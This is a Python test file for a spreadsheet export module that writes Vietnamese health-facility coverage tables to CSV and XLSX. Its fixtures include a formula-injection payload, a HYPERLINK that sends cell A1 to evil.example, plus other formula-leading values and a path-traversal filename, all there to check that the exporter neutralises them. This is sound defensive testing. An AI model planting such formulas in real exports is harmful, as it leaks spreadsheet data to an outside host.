"""Exports opened by spreadsheet readers (the csv module, openpyxl): Vietnamese text intact,
percentages as percentages, dates as dates, formula-leading names neutralised."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import openpyxl

from server.exports import Column, Table, filename, neutralise, to_csv, to_xlsx
from server.localformat import LocalFormat

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")'
COLUMNS = (
    Column("code", "Mã cơ sở", "Facility code"),
    Column("name", "Tên cơ sở", "Facility name"),
    Column("district", "Huyện", "District"),
    Column("covered", "Có đầu đọc hoạt động", "With a working reader", "int"),
    Column("ratio", "Tỉ lệ", "Share", "percent"),
    Column("day", "Ngày", "Day", "date"),
    Column("seen", "Lần cuối", "Last seen", "datetime"),
)
ROWS = [
    {"code": "34001", "name": "Bệnh viện Đa khoa tỉnh Thái Bình", "district": "TP Thái Bình", "covered": 35,
     "ratio": 35 / 48, "day": date(2023, 3, 31), "seen": datetime(2026, 12, 1, 9, 53, tzinfo=UTC)},
    {"code": "34002", "name": HOSTILE, "district": "Kiến Xương", "covered": 0, "ratio": 0.0,
     "day": date(2023, 1, 2), "seen": None},
    {"code": "34003", "name": "+84 Trạm y tế", "district": "-Tiền Hải", "covered": 1, "ratio": 1.0,
     "day": None, "seen": None},
    {"code": "34004", "name": "@SUM(A1:A9)", "district": "\tVũ Thư", "covered": 2, "ratio": 0.5,
     "day": None, "seen": None},
    {"code": "34005", "name": "\r=1+1", "district": "Hưng Hà", "covered": 3, "ratio": 0.25, "day": None, "seen": None},
]
TABLE = Table("coverage-by-facility", "Độ phủ theo cơ sở", "Coverage by facility", COLUMNS, ROWS)


def _read_csv(data: bytes, delimiter: str) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte-order mark: Excel would show ThÃ¡i BÃ¬nh"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_csv_has_a_bom_vietnamese_headers_and_percentages_with_a_comma():
    rows = _read_csv(to_csv(TABLE, LocalFormat("vi")), ";")
    assert rows[0] == ["Mã cơ sở", "Tên cơ sở", "Huyện", "Có đầu đọc hoạt động", "Tỉ lệ", "Ngày",
                       "Lần cuối (GMT+07:00)"]
    assert rows[1] == ["34001", "Bệnh viện Đa khoa tỉnh Thái Bình", "TP Thái Bình", "35", "72,9%", "2023-03-31",
                       "2026-12-01 16:53"]
    assert rows[2][3:6] == ["0", "0,0%", "2023-01-02"]
    assert rows[3][4] == "100,0%"


def test_csv_in_english_on_request_has_english_headers_and_points():
    rows = _read_csv(to_csv(TABLE, LocalFormat("en")), ",")
    assert rows[0][:2] == ["Facility code", "Facility name"]
    assert rows[1][4] == "72.9%"
    assert rows[1][1] == "Bệnh viện Đa khoa tỉnh Thái Bình"  # the data stays as written


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised():
    rows = _read_csv(to_csv(TABLE, LocalFormat("vi")), ";")
    names = [r[1] for r in rows[1:]]
    assert names[1] == "'" + HOSTILE
    assert names[2] == "'+84 Trạm y tế"
    assert rows[3][2] == "'-Tiền Hải"
    assert names[3] == "'@SUM(A1:A9)"
    assert rows[4][2] == "'\tVũ Thư"
    assert names[4] == "'\r=1+1"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
    assert neutralise("Trạm y tế") == "Trạm y tế"


def test_xlsx_cells_are_typed_with_a_header_row_widths_and_exact_text(tmp_path):
    path = tmp_path / filename(TABLE.name, "xlsx")
    path.write_bytes(to_xlsx([TABLE], LocalFormat("vi")))
    book = openpyxl.load_workbook(path)
    sheet = book["coverage-by-facility"]
    assert [c.value for c in sheet[1]] == ["Mã cơ sở", "Tên cơ sở", "Huyện", "Có đầu đọc hoạt động", "Tỉ lệ",
                                           "Ngày", "Lần cuối (GMT+07:00)"]
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:G6"
    first = sheet[2]
    assert first[1].value == "Bệnh viện Đa khoa tỉnh Thái Bình"
    assert first[3].value == 35 and first[3].data_type == "n"
    assert abs(first[4].value - 35 / 48) < 1e-12 and first[4].number_format == "0.0%"
    assert first[5].value == datetime(2023, 3, 31) and first[5].is_date
    assert first[6].value == datetime(2026, 12, 1, 16, 53) and first[6].is_date  # local wall time
    hostile = sheet["B3"]
    assert hostile.value == HOSTILE and hostile.data_type == "s"  # a string cell, never a formula
    assert sheet["C3"].value == "Kiến Xương"
    assert sheet.column_dimensions["B"].width >= len("Bệnh viện Đa khoa tỉnh Thái Bình")
    assert sheet.column_dimensions["A"].width >= len("Mã cơ sở")


def test_download_names_are_plain_ascii():
    assert filename("báo cáo/../x", "csv") == "b-o-c-o----x.csv"
    assert filename("coverage-2026-12", "xlsx") == "coverage-2026-12.xlsx"
